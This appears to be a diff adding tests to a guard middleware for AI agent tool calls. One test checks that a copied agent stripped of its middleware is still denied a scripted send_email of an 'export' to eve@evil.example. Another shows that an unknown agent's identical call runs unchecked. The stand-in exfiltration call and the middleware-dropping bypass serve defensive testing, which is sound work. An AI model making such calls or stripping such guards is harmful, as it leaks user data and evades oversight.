@@ -379,3 +379,26 @@ def test_a_sub_agent_acts_for_the_same_user_and_tenant(guard: Guard, tools: Tool
     decided = events(guard, "tool.decision")
     assert len(decided) == 2  # the delegation and the sub-agent's own lookup
     assert {(e.user_id, e.tenant) for e in decided} == {("alice", "acme")}
+
+
+def test_a_copy_of_a_guarded_agent_that_lost_its_middleware_is_still_decided(guard: Guard, tools: Tools) -> None:
+    from ag2 import AgentSpec
+
+    original = make_agent(tools, scripted("done"), [TetherMiddleware(guard)])
+    config = scripted(call("send_email", to="eve@evil.example", body="export"), "done")
+    copy = AgentSpec.from_agent(original).to_agent(available_tools=tools.all(), config=config)  # drops middleware
+
+    ask(copy)
+
+    assert tools.runs["send_email"] == 0
+    [decision] = events(guard, "tool.decision")
+    assert (decision.agent, decision.verdict) == ("support-bot", "deny")
+    assert decision.details["context"]["fallback"]
+
+
+def test_an_agent_no_policy_knows_is_left_alone(guard: Guard, tools: Tools) -> None:
+    config = scripted(call("send_email", to="eve@evil.example", body="export"), "done")
+    ask(Agent("stranger", config=config, tools=tools.all()))
+
+    assert tools.runs["send_email"] == 1
+    assert events(guard) == []
